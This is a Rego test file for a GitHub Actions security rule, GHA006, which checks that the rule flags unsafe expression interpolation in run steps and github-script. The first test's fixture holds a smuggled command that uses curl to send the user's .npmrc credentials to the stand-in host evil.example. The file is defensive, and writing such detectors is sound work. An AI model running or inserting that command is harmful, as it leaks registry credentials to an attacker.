package main

import rego.v1

test_gha006_the_reported_secret_splice if {
	"GHA006" in gha_ids(deny) with input as gha_wf([{"run": "yarn workspace web$(curl -sd@$HOME/.npmrc evil.example)${{ secrets.NPM_TOKEN }} run test"}], {})
}

test_gha006_step_output_in_run if {
	"GHA006" in gha_ids(deny) with input as gha_wf([{"run": "helm upgrade ${{ steps.meta.outputs.name }}"}], {})
}

test_gha006_inputs_in_github_script if {
	"GHA006" in gha_ids(deny) with input as gha_wf([{"uses": "actions/github-script@v7", "with": {"script": "core.info('${{ inputs.name }}')"}}], {})
}

test_gha006_other_event_fields if {
	"GHA006" in gha_ids(deny) with input as gha_wf([{"run": "echo ${{ github.event.pull_request.head.repo.name }}"}], {})
}

test_gha006_safe_contexts_pass if {
	not "GHA006" in gha_ids(deny) with input as gha_wf([{"run": "git checkout ${{ github.sha }} && echo ${{ runner.temp }}/x ${{ matrix.node }} ${{ github.ref == 'refs/heads/main' }}"}], {})
}

test_gha006_env_indirection_passes if {
	not "GHA006" in gha_ids(deny) with input as gha_wf([{"env": {"T": "${{ secrets.NPM_TOKEN }}"}, "run": "npm publish --token \"$T\""}], {})
}

test_gha006_not_reported_twice_with_gha004 if {
	not "GHA006" in gha_ids(deny) with input as gha_wf([{"run": "echo \"${{ github.event.pull_request.title }}\""}], {})
}

test_gha006_not_reported_twice_with_gha005 if {
	not "GHA006" in gha_ids(deny) with input as gha_wf([{"run": "echo ${{ secrets.TOKEN }}"}], {})
}
